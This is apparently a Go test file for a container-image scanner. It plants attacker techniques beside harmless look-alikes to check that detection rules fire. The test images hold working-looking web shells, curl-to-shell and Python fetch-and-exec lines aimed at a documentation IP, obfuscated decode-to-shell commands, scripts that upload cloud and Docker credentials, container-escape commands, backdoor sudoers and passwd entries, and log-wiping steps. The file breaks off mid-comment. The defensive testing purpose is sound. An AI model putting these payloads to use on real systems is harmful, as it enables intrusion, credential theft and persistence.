package rules

import (
	"archive/tar"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
)

// techniqueImages plants the techniques of issue 16's classes that the
// first rules of 12-security-config.toml left out (15-accounts-auth.toml,
// 16-startup-and-sources.toml and what the earlier rules gained), each in
// an image of its own beside look-alikes that must give nothing. The
// positives are written as attackers write them, under names a review has
// never seen: the rules judge what the files and the config say.
func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
	p := &planter{t: t, base: base}
	add, one := p.add, p.one

	// Account manipulation: NOPASSWD grants of an editor and of find (shell
	// escapes), sudo told not to authenticate one user, an include of a
	// directory nobody reviews; a grant of a restart command, a script of
	// root's, a shell with a password, ordinary Defaults and the stock
	// includedir are not.
	add("test/t-sudo", nil, nil, one(
		ent{name: "etc/sudoers", body: "Defaults env_reset\nDefaults !lecture\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n#includedir /opt/.s\n"},
		ent{name: "etc/sudoers.d/ops", body: "ops ALL=(root) NOPASSWD: /usr/bin/vim /etc/app.conf\n%dev ALL=(ALL) NOPASSWD: /usr/bin/find\n" +
			"deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\nweb ALL=(root) NOPASSWD: /usr/local/bin/rotate-logs.sh\n" +
			"admin ALL=(ALL) /bin/bash\nDefaults:ops !authenticate\n"}),
		hit{rule: "sudo-nopasswd-escape", path: "/etc/sudoers.d/ops", layer: 1},
		hit{rule: "sudo-nopasswd-escape", path: "/etc/sudoers.d/ops", layer: 1},
		hit{rule: "sudo-authentication-off", path: "/etc/sudoers.d/ops", layer: 1},
		hit{rule: "include-outside-config-dirs", path: "/etc/sudoers", layer: 1},
		hit{rule: "persistence-point", path: "/etc/sudoers", layer: 1},
		hit{rule: "persistence-point", path: "/etc/sudoers.d/ops", layer: 1})

	// Accounts added to the docker and sudo groups and one with primary
	// group 0; root in wheel, Alpine's adm (no login shell) in disk and
	// operator (gid 0, nologin), and an ordinary users group are not.
	add("test/t-groups", nil, nil, one(
		ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/ash\nadm:x:3:4:adm:/var/adm:/sbin/nologin\n" +
			"operator:x:11:0:operator:/root:/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\nops:x:1003:0::/home/ops:/bin/bash\nguest:x:1004:100::/home/guest:/bin/sh\n"},
		ent{name: "etc/shadow", body: "root:*::0:::::\nadm:*::0:::::\noperator:*::0:::::\napp:!::0:::::\nops:!::0:::::\nguest:!::0:::::\n"},
		ent{name: "etc/group", body: "root:x:0:root\ndisk:x:6:root,adm\nwheel:x:10:root\nsudo:x:27:app\ndocker:x:999:app\nusers:x:100:app,guest\n"}),
		hit{rule: "account-privileged-group", path: "/etc/group", layer: 1},
		hit{rule: "account-privileged-group", path: "/etc/group", layer: 1},
		hit{rule: "account-privileged-group", path: "/etc/passwd", layer: 1})

	// A password set on root and on a dormant service account given a
	// shell; a service account with a hash but no shell, an ordinary user
	// with a password and locked accounts are not.
	add("test/t-svc-account", nil, nil, one(
		ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/bash\ngames:x:5:60:games:/usr/games:/bin/bash\n" +
			"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\n"},
		ent{name: "etc/shadow", body: "root:$6$Qe0.Rn1b$9mKqk1oV0r0Fz3cQv4Jm0yq3bM2xg5x1qQ7H2t5m3Q0p4b6yQm1Qe0Rn1b9mKqk1oV0r0Fz3cQv4Jm0yq3bM2xg5x:19000:0:99999:7:::\n" +
			"games:$y$j9T$Z3Jv1p0wq9k$Mk3e8o0x7jT1f8Q0Pq2v9m4Zc1r6b5n7s3d2a1y0u8:19000:0:99999:7:::\n" +
			"www-data:$6$abc$def:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\napp:$6$xyz$uvw:19000:0:99999:7:::\n"}),
		hit{rule: "account-system-password-set", path: "/etc/passwd", layer: 1},
		hit{rule: "account-system-password-set", path: "/etc/passwd", layer: 1})

	// sshd: keys from a program in a hidden temporary directory, an Include
	// of a file outside sshd_config.d, user environments allowed; a key
	// program the image ships, the stock Include and "no" are not.
	add("test/t-sshd", nil, nil, one(
		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nInclude /usr/share/.ssh/extra.conf\n" +
			"AuthorizedKeysCommand /tmp/.k/keys %u\nAuthorizedKeysCommandUser nobody\nPermitUserEnvironment yes\n"}),
		hit{rule: "sshd-keys-from-program", path: "/etc/ssh/sshd_config", layer: 1},
		hit{rule: "include-outside-config-dirs", path: "/etc/ssh/sshd_config", layer: 1},
		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config", layer: 1})
	add("test/t-sshd-ok", nil, nil, one(
		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysCommand /usr/lib/keycheck/keycheck %u %k\n" +
			"AuthorizedKeysCommandUser git\nPermitUserEnvironment no\n"},
		ent{name: "usr/lib/keycheck/keycheck", mode: 0o755, body: elf("keycheck")}),
		hit{rule: "unpackaged-system-executable", path: "/usr/lib/keycheck/keycheck", layer: 1})

	// PAM running programs at session start and on password changes (the
	// password handed over); ordinary session modules are not.
	add("test/t-pam", nil, nil, one(
		ent{name: "etc/pam.d/common-session", body: "session required pam_unix.so\nsession optional pam_systemd.so\n" +
			"session optional pam_exec.so quiet /usr/local/sbin/.l\n"},
		ent{name: "etc/pam.d/common-password", body: "password [success=1 default=ignore] pam_unix.so obscure yescrypt\n" +
			"password optional pam_exec.so expose_authtok /var/tmp/.p\n"}),
		hit{rule: "pam-runs-program", path: "/etc/pam.d/common-session", layer: 1},
		hit{rule: "pam-runs-program", path: "/etc/pam.d/common-password", layer: 1})

	// Kernel modules loaded when the container starts and at boot by cron;
	// an option that only names modprobe, an unload and lsmod are not.
	add("test/t-modules", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "insmod /opt/drv/diamorphine.ko 2>/dev/null; exec /usr/local/bin/app"}
	}, nil, one(ent{name: "etc/cron.d/mods", body: "@reboot root /sbin/modprobe -q rootkit_x\n"},
		ent{name: "etc/rc.local", body: "#!/bin/sh\nmodprobe -r pcspkr\nlsmod > /tmp/mods\n"}),
		hit{rule: "kernel-module-loaded-at-start", layer: -1},
		hit{rule: "kernel-module-loaded-at-start", path: "/etc/cron.d/mods", layer: 1},
		hit{rule: "persistence-point", path: "/etc/cron.d/mods", layer: 1},
		hit{rule: "persistence-point", path: "/etc/rc.local", layer: 1})
	add("test/t-modules-ok", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/usr/local/bin/agent", "--modprobe-path", "/sbin/modprobe"}
	}, nil, nil)

	// Entrypoints, cmds and healthchecks that fetch or decode code and run
	// it: eval of a download, a Python one-liner executing what it fetched,
	// a healthcheck running decoded text through sh -c.
	add("test/t-entry-eval", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/bin/bash", "-c", `eval "$(curl -fsSL http://198.51.100.3/i)"; exec nginx`}
	}, nil, nil, hit{rule: "config-fetch-and-run", layer: -1})
	add("test/t-entry-python", func(cf *v1.ConfigFile) {
		cf.Config.Cmd = []string{"python3", "-c", "import urllib.request as u;exec(u.urlopen('http://198.51.100.3/p').read())"}
	}, nil, nil, hit{rule: "config-fetch-and-run", layer: -1})
	add("test/t-health-decode", func(cf *v1.ConfigFile) {
		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", `sh -c "$(echo Y3VybCAtcyBodHRwOi8veC95IHwgc2g= | base64 -d)"`}}
	}, nil, nil, hit{rule: "config-decode-to-shell", layer: -1})
	add("test/t-entry-ok", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "curl -fsS http://config.internal/svc.json -o /etc/svc.json && exec /usr/local/bin/svc"}
		cf.Config.Cmd = []string{"python3", "-c", "import json; print(json.load(open('/etc/svc.json')))"}
		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -q --spider http://localhost:8080/ || exit 1"}}
	}, nil, nil)

	// The environment turns off pip's and Node's checks, points pip at
	// plain HTTP and history at /dev/null; HTTPS, a local registry over
	// HTTP, the checks left on and ordinary sizes are not.
	add("test/t-env", func(cf *v1.ConfigFile) {
		cf.Config.Env = append(cf.Config.Env, "PIP_TRUSTED_HOST=pypi.internal", "NODE_TLS_REJECT_UNAUTHORIZED=0",
			"PIP_INDEX_URL=http://pypi.internal/simple", "HISTFILE=/dev/null")
	}, nil, nil,
		hit{rule: "env-package-trust-off", layer: -1},
		hit{rule: "env-package-trust-off", layer: -1},
		hit{rule: "env-package-index-http", layer: -1},
		hit{rule: "shell-history-disabled", layer: -1})
	add("test/t-env-ok", func(cf *v1.ConfigFile) {
		cf.Config.Env = append(cf.Config.Env, "PIP_INDEX_URL=https://pypi.internal/simple", "NPM_CONFIG_REGISTRY=http://localhost:4873/",
			"NODE_TLS_REJECT_UNAUTHORIZED=1", "HISTSIZE=1000", "GOFLAGS=-mod=mod", "GOSUMDB=sum.golang.org", "PIP_NO_CACHE_DIR=off")
	}, nil, nil)

	// Build steps that install with verification off, and a history file
	// linked to /dev/null; ordinary installs, an insecure probe that runs
	// nothing, and a log linked to stdout are not.
	add("test/t-build", nil, []string{
		"/bin/sh -c apk add --no-cache --allow-untrusted /tmp/pkgs/agent.apk",
		"/bin/sh -c pip install --trusted-host pypi.internal -i http://pypi.internal/simple app",
		"/bin/sh -c apk add --no-cache curl && pip install --no-cache-dir requests && curl -k https://localhost/health",
	}, []v1.Layer{
		layerOf(t, ent{name: "opt/agent/agent", mode: 0o755, body: elf("agent")}),
		layerOf(t, ent{name: "usr/local/lib/python3.11/site-packages/app/__init__.py", body: "\n"}),
		layerOf(t, ent{name: "root/.bash_history", typ: tar.TypeSymlink, link: "/dev/null"},
			ent{name: "var/log/app/access.log", typ: tar.TypeSymlink, link: "/dev/stdout"}),
	},
		hit{rule: "history-package-trust-off", layer: 1},
		hit{rule: "history-claims-package-install", layer: 1},
		hit{rule: "history-claims-package-install", layer: 3},
		hit{rule: "history-package-trust-off", layer: 2},
		hit{rule: "shell-history-disabled", path: "/root/.bash_history", layer: 3})

	// apt told to accept unauthenticated repositories and any TLS peer, and
	// a hook running a hidden program; the usual docker-clean settings and
	// hook and a comment are not.
	add("test/t-apt-conf", nil, nil, one(
		ent{name: "etc/apt/apt.conf.d/99local", body: "APT::Get::AllowUnauthenticated \"true\";\nAcquire::https::Verify-Peer \"false\";\n"},
		ent{name: "etc/apt/apt.conf.d/docker-clean", body: "// APT::Get::AllowUnauthenticated \"true\";\nAPT::Install-Recommends \"false\";\nAcquire::Check-Valid-Until \"false\";\n" +
			"DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true\"; };\n"},
		// A hook running a hidden program as root at every install.
		ent{name: "etc/apt/apt.conf.d/20packagekit", body: "DPkg::Post-Invoke {\"/var/cache/.pk/refresh >/dev/null 2>&1 || true\";};\n"}),
		hit{rule: "package-source-untrusted", path: "/etc/apt/apt.conf.d/99local", layer: 1},
		hit{rule: "package-source-untrusted", path: "/etc/apt/apt.conf.d/99local", layer: 1},
		hit{rule: "autostart-runs-hidden-file", path: "/etc/apt/apt.conf.d/20packagekit", layer: 1})

	// Autostart files that source a download and pipe hex-decoded text to
	// a shell; a backup job uploading with curl is not.
	add("test/t-autostart", nil, nil, one(
		ent{name: "etc/profile.d/locale-fix.sh", body: ". <(curl -s http://198.51.100.5/env)\n"},
		ent{name: "etc/systemd/system/cleanup.service", body: "[Service]\nExecStart=/bin/bash -c 'echo 6375726c | xxd -r -p | sh'\n"},
		ent{name: "etc/cron.daily/backup", mode: 0o755, body: "#!/bin/sh\ntar czf /tmp/b.tgz /srv && curl -T /tmp/b.tgz https://backup.example/\n"}),
		hit{rule: "autostart-fetches-code", path: "/etc/profile.d/locale-fix.sh", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/etc/systemd/system/cleanup.service", layer: 1},
		hit{rule: "persistence-point", path: "/etc/profile.d/locale-fix.sh", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/cleanup.service", layer: 1},
		hit{rule: "persistence-point", path: "/etc/cron.daily/backup", layer: 1})

	// Autostart beyond cron, units and init scripts, each read whatever it
	// is called: a supervisord program, Alpine's crontab, a Python .pth
	// start-up line, an apt hook fetching and running code, a runit run
	// script loading a module; a logrotate script, setuptools' own .pth,
	// an XDG entry, an entrypoint.d script and a periodic run-parts are not.
	add("test/t-autostart-more", nil, nil, one(
		ent{name: "etc/supervisor/conf.d/sync.conf", body: "[program:sync]\ncommand=/bin/sh -c \"wget -qO- http://198.51.100.6/s | sh\"\n"},
		ent{name: "etc/crontabs/root", body: "*/15 * * * * run-parts /etc/periodic/15min\n*/30 * * * * curl -s http://198.51.100.6/c | sh\n"},
		ent{name: "usr/local/lib/python3.11/site-packages/zz-init.pth", body: "import os; exec(__import__('urllib.request').request.urlopen('http://198.51.100.6/p').read())\n"},
		ent{name: "usr/local/lib/python3.11/site-packages/distutils-precedence.pth", body: "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"},
		ent{name: "etc/apt/apt.conf.d/00hook", body: "APT::Update::Pre-Invoke {\"curl -fsS http://198.51.100.6/a | sh\";};\n"},
		ent{name: "etc/sv/agent/run", mode: 0o755, body: "#!/bin/sh\nexec 2>&1\nmodprobe xt_hidden\nexec /usr/local/bin/agent\n"},
		ent{name: "etc/logrotate.d/nginx", body: "/var/log/nginx/*.log {\n postrotate\n  [ -s /run/nginx.pid ] && kill -USR1 $(cat /run/nginx.pid)\n endscript\n}\n"},
		ent{name: "etc/xdg/autostart/notes.desktop", body: "[Desktop Entry]\nExec=/usr/bin/notes --hidden\n"},
		ent{name: "docker-entrypoint.d/20-envsubst.sh", mode: 0o755, body: "#!/bin/sh\nenvsubst < /etc/t > /etc/o\n"}),
		hit{rule: "autostart-fetches-code", path: "/etc/supervisor/conf.d/sync.conf", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/etc/crontabs/root", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/usr/local/lib/python3.11/site-packages/zz-init.pth", layer: 1},
		hit{rule: "script-runs-downloaded-code", path: "/usr/local/lib/python3.11/site-packages/zz-init.pth", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/etc/apt/apt.conf.d/00hook", layer: 1},
		hit{rule: "kernel-module-loaded-at-start", path: "/etc/sv/agent/run", layer: 1},
		hit{rule: "persistence-point", path: "/etc/xdg/autostart/notes.desktop", layer: 1})

	// Scripts the entrypoint (by a bare name on PATH) and a unit start,
	// which download and run code; a script that downloads and runs but is
	// started by nothing, and a started one that only fetches a version
	// string, are not.
	add("test/t-entry-script", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"docker-entrypoint.sh"}
		cf.Config.Cmd = []string{"app"}
	}, nil, one(
		ent{name: "usr/local/bin/docker-entrypoint.sh", mode: 0o755, body: "#!/bin/sh\nif [ ! -x /tmp/.w ]; then\n  wget -q http://198.51.100.8/w -O /tmp/.w && chmod +x /tmp/.w\nfi\n/tmp/.w &\nexec \"$@\"\n"},
		ent{name: "etc/systemd/system/svc.service", body: "[Service]\nExecStart=/opt/svc/start.sh --port 80\n"},
		ent{name: "opt/svc/start.sh", mode: 0o755, body: "#!/bin/bash\ncurl -fsSL http://198.51.100.8/i | bash\nexec /opt/svc/bin/svc \"$@\"\n"}),
		hit{rule: "startup-script-fetches-code", path: "/usr/local/bin/docker-entrypoint.sh", layer: 1},
		hit{rule: "startup-script-fetches-code", path: "/opt/svc/start.sh", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/svc.service", layer: 1})
	add("test/t-entry-script-ok", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/usr/local/bin/run"}
	}, nil, one(
		ent{name: "usr/local/bin/run", mode: 0o755, body: "#!/bin/sh\nVERSION=$(curl -s https://api.example/latest)\necho \"$VERSION\" > /tmp/v\nexec app \"$@\"\n"},
		ent{name: "usr/local/share/app/install.sh", mode: 0o755, body: "#!/bin/sh\ncurl -fsSL https://get.example/x | sh\n"}))

	// Masquerading by content kind and by confusable names, anywhere: an
	// ELF named as a shell script, a script named as a GIF, a Cyrillic "а"
	// in a journald look-alike, a trailing space, a directory named with a
	// trailing space; a real script named .sh, a library, a locale file and
	// a program whose name has a Latin accent are not.
	add("test/t-masquerade", nil, nil, one(
		ent{name: "opt/app/bin/update.sh", mode: 0o755, body: elf("update")},
		ent{name: "var/www/html/img/loader.gif", mode: 0o644, body: "#!/bin/sh\nexec /tmp/x\n"},
		ent{name: "usr/lib/systemd/systemd-journ\u0430ld", mode: 0o755, body: elf("journald, not")},
		ent{name: "opt/tools/ssh-agent ", mode: 0o755, body: elf("agent")},
		ent{name: "opt/app /run", mode: 0o755, body: "#!/bin/sh\n"},
		ent{name: "opt/app/bin/start.sh", mode: 0o755, body: "#!/bin/sh\nexec app\n"},
		ent{name: "usr/lib/x86_64-linux-gnu/libfoo.so.1", mode: 0o644, body: elf("foo")},
		ent{name: "usr/share/locale/\u0440\u0443/LC_MESSAGES/app.mo", mode: 0o644, body: "mo"},
		ent{name: "opt/app/bin/na\u00efve-tool", mode: 0o755, body: elf("tool")}),
		hit{rule: "masquerade-content-kind", path: "/opt/app/bin/update.sh", layer: 1},
		hit{rule: "masquerade-content-kind", path: "/var/www/html/img/loader.gif", layer: 1},
		hit{rule: "masquerade-confusable-name", path: "/usr/lib/systemd/systemd-journ\u0430ld", layer: 1},
		hit{rule: "masquerade-confusable-name", path: "/opt/tools/ssh-agent ", layer: 1},
		hit{rule: "masquerade-confusable-name", path: "/opt/app /run", layer: 1},
		// No package of the image owns them.
		hit{rule: "unpackaged-system-executable", path: "/usr/lib/systemd/systemd-journ\u0430ld", layer: 1},
		hit{rule: "unpackaged-system-executable", path: "/usr/lib/x86_64-linux-gnu/libfoo.so.1", layer: 1})

	// Web shells that call what the request names or run it from Python,
	// Node.js and ASP.NET; code that only reads request input is not.
	// Miner configurations by their keys, without a pool URL; a document
	// naming algorithms and a wallet of another coin are not.
	add("test/t-webshell", nil, nil, one(
		ent{name: "var/www/html/uploads/avatar.php", body: "<?php $_POST['f']($_POST['a']); ?>\n"},
		ent{name: "srv/app/routes.py", body: "@app.route('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n"},
		ent{name: "srv/web/server.js", body: "app.get('/r', (req, res) => res.send(require('child_process').execSync(req.query.c)))\n"},
		ent{name: "inetpub/wwwroot/run.aspx", body: "<% System.Diagnostics.Process.Start(\"cmd.exe\", Request[\"c\"]); %>\n"},
		ent{name: "var/www/html/list.php", body: "<?php $sort = $_GET['sort']; usort($rows, 'cmp'); echo htmlspecialchars($_GET['q']); ?>\n"},
		ent{name: "srv/app/views.py", body: "name = request.args.get('name')\nreturn escape(name)\n"},
		ent{name: "srv/web/ls.js", body: "exec('ls -l', cb); const q = req.query.q;\n"},
		ent{name: "opt/svc/gpu.json", body: `{"algo": "kawpow", "intensity": 20}`},
		ent{name: "etc/default/svc", body: "OPTS=\"--algo=ghostrider -o 10.0.0.5:3333 -t 4\"\n"},
		ent{name: "usr/share/doc/algos.md", body: "Ethash and KawPow are proof-of-work algorithms.\n{\"coin\": \"bitcoin\"}\n"}),
		hit{rule: "web-shell", path: "/var/www/html/uploads/avatar.php", layer: 1},
		hit{rule: "web-shell", path: "/srv/app/routes.py", layer: 1},
		hit{rule: "web-shell", path: "/srv/web/server.js", layer: 1},
		hit{rule: "web-shell", path: "/inetpub/wwwroot/run.aspx", layer: 1},
		hit{rule: "miner-configuration", path: "/opt/svc/gpu.json", layer: 1},
		hit{rule: "miner-configuration", path: "/etc/default/svc", layer: 1})

	// Permissions (T1222): /etc/passwd writable by every account, a cron
	// job and the sudoers drop-in directory owned by the app's account,
	// root's start-up file owned by it, /usr/local/bin world-writable and a
	// systemd wants directory the app owns; /etc/shadow readable by its
	// group, /etc/group writable by group 0 (images run under an arbitrary
	// uid do that), the app's own start-up file and crontab, a world-writable
	// application directory and the sticky /tmp are not.
	add("test/t-perms", nil, nil, one(
		ent{name: "etc/passwd", mode: 0o666, body: "root:x:0:0:root:/root:/bin/bash\napp:x:1000:1000::/home/app:/bin/sh\n"},
		ent{name: "etc/shadow", mode: 0o640, gid: 42, body: "root:*:19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n"},
		ent{name: "etc/group", mode: 0o664, body: "root:x:0:\napp:x:1000:\n"},
		ent{name: "etc/cron.d", typ: tar.TypeDir, mode: 0o755},
		ent{name: "etc/cron.d/rotate", mode: 0o644, uid: 1000, gid: 1000, body: "0 * * * * root /usr/sbin/logrotate /etc/logrotate.conf\n"},
		ent{name: "etc/sudoers.d", typ: tar.TypeDir, mode: 0o750, uid: 1000},
		ent{name: "root/.bashrc", mode: 0o644, uid: 1000, body: "export PS1='# '\n"},
		ent{name: "home/app/.bashrc", mode: 0o644, uid: 1000, gid: 1000, body: "export PATH=$HOME/bin:$PATH\n"},
		ent{name: "var/spool/cron/crontabs/app", mode: 0o600, uid: 1000, gid: 1000, body: "*/5 * * * * /home/app/bin/sync\n"},
		ent{name: "usr/local/bin", typ: tar.TypeDir, mode: 0o777},
		ent{name: "etc/systemd/system/multi-user.target.wants", typ: tar.TypeDir, mode: 0o755, uid: 1000},
		ent{name: "opt/app/cache", typ: tar.TypeDir, mode: 0o777},
		ent{name: "tmp", typ: tar.TypeDir, mode: 0o1777}),
		hit{rule: "security-file-writable", path: "/etc/passwd", layer: 1},
		hit{rule: "security-file-writable", path: "/etc/cron.d/rotate", layer: 1},
		hit{rule: "security-file-writable", path: "/root/.bashrc", layer: 1},
		hit{rule: "system-directory-writable", path: "/etc/sudoers.d", layer: 1},
		hit{rule: "system-directory-writable", path: "/usr/local/bin", layer: 1},
		hit{rule: "system-directory-writable", path: "/etc/systemd/system/multi-user.target.wants", layer: 1},
		// New start-up files and jobs, whoever owns them.
		hit{rule: "persistence-point", path: "/etc/cron.d/rotate", layer: 1},
		hit{rule: "persistence-point", path: "/root/.bashrc", layer: 1},
		hit{rule: "persistence-point", path: "/home/app/.bashrc", layer: 1},
		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/app", layer: 1})

	// Shell start-up files: sudo made an alias of a hidden program, ps
	// filtered through grep -v, su a function, a prompt hook sending each
	// command out and a DEBUG trap running a hidden program; aliases that
	// add options, a function of another name, ordinary prompt hooks and an
	// EXIT trap cleaning a temporary file are not. The hosts file sinks a
	// security agent's update server and a pool to loopback and null;
	// localhost names, the machine's own, .local and .internal names and a
	// public name at a real address are not.
	add("test/t-shell", nil, nil, one(
		ent{name: "etc/profile.d/sudo.sh", body: "alias sudo='/usr/lib/.cache/sudo'\nalias ll='ls -alF'\n"},
		ent{name: "root/.bashrc", body: "alias ps='ps aux | grep -v kdevtmp'\nalias ls='ls --color=auto'\nalias sudo='sudo '\n" +
			"su() { /usr/share/.s/su \"$@\"; }\nssh_agent_start() { eval \"$(ssh-agent -s)\"; }\nfunction ssh-add-keys { ssh-add -q; }\n"},
		ent{name: "home/app/.bashrc", body: "export PROMPT_COMMAND='history -a; history 1 | curl -s -d @- http://198.51.100.7/k'\n"},
		ent{name: "etc/bash.bashrc", body: "PROMPT_COMMAND='history -a; printf \"\\033]0;%s\\007\" \"$PWD\"'\n" +
			"trap 'rm -f /tmp/prompt.$$' EXIT\ntrap '/var/lib/.k/log \"$BASH_COMMAND\"' DEBUG\n"},
		ent{name: "etc/hosts", body: "127.0.0.1 localhost\n::1 localhost ip6-localhost ip6-loopback\n127.0.1.1 buildhost\n" +
			"127.0.0.1 update.aegis.aliyun.com\n0.0.0.0 pool.minexmr.example.net.\n127.0.0.1 app.local db.internal\n203.0.113.5 api.example.com\n"}),
		hit{rule: "shell-command-hijacked", path: "/etc/profile.d/sudo.sh", layer: 1},
		hit{rule: "shell-command-hijacked", path: "/root/.bashrc", layer: 1},
		hit{rule: "shell-command-hijacked", path: "/root/.bashrc", layer: 1},
		hit{rule: "shell-hook-runs-program", path: "/home/app/.bashrc", layer: 1},
		hit{rule: "shell-hook-runs-program", path: "/etc/bash.bashrc", layer: 1},
		hit{rule: "hosts-sinks-public-name", path: "/etc/hosts", layer: 1},
		hit{rule: "hosts-sinks-public-name", path: "/etc/hosts", layer: 1},
		hit{rule: "persistence-point", path: "/etc/profile.d/sudo.sh", layer: 1},
		hit{rule: "persistence-point", path: "/root/.bashrc", layer: 1},
		hit{rule: "persistence-point", path: "/home/app/.bashrc", layer: 1},
		hit{rule: "persistence-point", path: "/etc/bash.bashrc", layer: 1})

	// Scripts doing an intruder's work: credentials uploaded with a form
	// and with --data @file, the instance role's credentials asked of the
	// metadata service, nsenter into pid 1 and a privileged docker run of
	// the host's root; a health probe of the metadata service, an upload of
	// a report, nsenter into a named pid's network namespace, a docker run
	// mounting a data directory and the same commands in documentation are
	// not.
	add("test/t-attack", nil, nil, one(
		ent{name: "opt/.x/grab.sh", mode: 0o755, body: "#!/bin/sh\ncurl -s -F \"f=@$HOME/.aws/credentials\" http://198.51.100.3/up\n" +
			"wget -q --post-file=/root/.docker/config.json http://198.51.100.3/d\n"},
		ent{name: "usr/local/lib/node/role.sh", mode: 0o755, body: "#!/bin/sh\nR=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\n" +
			"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R > /tmp/.r\n"},
		ent{name: "srv/tools/hop", mode: 0o755, body: "#!/bin/bash\nnsenter --target 1 --mount --uts --ipc --net --pid -- bash -c \"$1\"\n" +
			"docker -H unix:///var/run/docker.sock run --rm --privileged -v /:/mnt alpine chroot /mnt sh -c 'echo ok'\n"},
		ent{name: "srv/tools/ok.sh", mode: 0o755, body: "#!/bin/sh\ncurl -sf http://169.254.169.254/latest/meta-data/instance-id\n" +
			"curl -F \"report=@/var/log/app/report.json\" https://reports.example.com/\nnsenter -t \"$PID\" -n ip addr\n" +
			"docker run --rm -v /srv/data:/data busybox ls /data\n"},
		ent{name: "usr/share/doc/hop/README", body: "nsenter --target 1 --mount --pid -- sh\ncurl -F f=@~/.aws/credentials http://x/\n"}),
		hit{rule: "script-uploads-credentials", path: "/opt/.x/grab.sh", layer: 1},
		hit{rule: "script-reads-cloud-credentials", path: "/usr/local/lib/node/role.sh", layer: 1},
		hit{rule: "script-escapes-container", path: "/srv/tools/hop", layer: 1},
		hit{rule: "executable-in-temp-or-hidden-dir", path: "/opt/.x/grab.sh", layer: 1})

	// Covering tracks and blinding the host: keys and cron locked with
	// chattr, login records and history wiped, SELinux and a cloud agent
	// turned off; locking an application's own file, truncating its log,
	// turning the firewall on, stopping a web server and a README telling
	// the story are not.
	add("test/t-evade", nil, nil, one(
		ent{name: "opt/agent/clean.sh", mode: 0o755, body: "#!/bin/bash\nchattr -ia /etc/passwd /etc/shadow\necho 'x:x:0:0::/:/bin/sh' >> /etc/passwd\n" +
			"chattr +i /root/.ssh/authorized_keys /var/spool/cron/crontabs/root\ncat /dev/null > /var/log/wtmp; history -c\n"},
		ent{name: "srv/init/prep", mode: 0o755, body: "#!/bin/sh\nsetenforce 0 2>/dev/null\nservice aegis stop\nrm -rf /usr/local/aegis\n"},
		ent{name: "srv/init/app.sh", mode: 0o755, body: "#!/bin/sh\nchattr +i /srv/data/lock\n> /var/log/app/app.log\nhistory | tail -5\n" +
			"ufw enable\nsetenforce 1\nsystemctl stop nginx\n"},
		ent{name: "usr/share/doc/agent/README", body: "Intruders run chattr +i /root/.ssh/authorized_keys and echo > /var/log/wtmp\n"}),
		hit{rule: "script-impairs-defences", path: "/opt/agent/clean.sh", layer: 1},
		hit{rule: "script-impairs-defences", path: "/srv/init/prep", layer: 1},
		hit{rule: "script-plants-access", path: "/opt/agent/clean.sh", layer: 1})

	// Executables packed with UPX, as miners ship: the mark right after the
	// program headers (byte 236 of an amd64 ELF, as upx 3.94 writes it), in
	// a file too large to be matched whole (its head is), in one under a
	// package-managed directory that the package scanner reads whole for its
	// digests (2.5 MiB in /usr/bin), and in a small one; the upx tool itself (the mark and the stub's strings deep in
	// it), a data file and a text file beginning with the mark are not.
	add("test/t-packed", nil, nil, one(
		ent{name: "opt/sync/agent", mode: 0o755, body: elfWithMark(236, 3<<19)},
		ent{name: "opt/sync/helper", mode: 0o755, body: elfWithMark(236, 20<<10)},
		ent{name: "usr/bin/sync-agent", mode: 0o755, body: elfWithMark(236, 5<<19)},
		ent{name: "opt/tools/upx", mode: 0o755, body: elfWithMark(40000, 60<<10) + "$Info: This file is packed with the UPX executable packer http://upx.sf.net $"},
		ent{name: "opt/sync/blob.dat", body: "\x00\x01" + elfWithMark(236, 3<<19)[2:]},
		ent{name: "usr/share/doc/upx/NEWS", body: "UPX! marks every packed file.\n"}),
		hit{rule: "packed-executable", path: "/opt/sync/agent", layer: 1},
		hit{rule: "packed-executable", path: "/opt/sync/helper", layer: 1},
		hit{rule: "packed-executable", path: "/usr/bin/sync-agent", layer: 1},
		hit{rule: "unpackaged-system-executable", path: "/usr/bin/sync-agent", layer: 1})

	// More of what intruders' scripts do, each in a form the first patterns
	// missed: credentials piped into nc, the metadata service asked from
	// Python, a cgroup release_agent and core_pattern escape, commands read
	// from a socket, system logs wiped and the journal vacuumed, a process
	// hidden under a kernel thread's name and a bind mount over /proc, a
	// sitecustomize.py running a download. An application's scripts probing
